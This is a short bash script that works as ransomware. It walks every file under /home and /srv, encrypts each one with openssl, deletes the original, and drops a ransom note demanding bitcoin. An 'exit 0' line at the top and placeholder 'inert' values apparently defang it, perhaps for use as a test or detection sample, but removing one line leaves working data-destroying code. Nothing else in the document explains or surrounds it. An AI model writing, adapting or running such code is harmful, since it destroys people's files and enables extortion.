#!/bin/bash
exit 0 # inert
find /home /srv -type f | while read -r f; do
  openssl enc -aes-256-cbc -pass pass:inert -in "$f" -out "$f.enc" && rm -f "$f"
done
echo "send bitcoin to inert-wallet" >/HOW_TO_RECOVER.txt
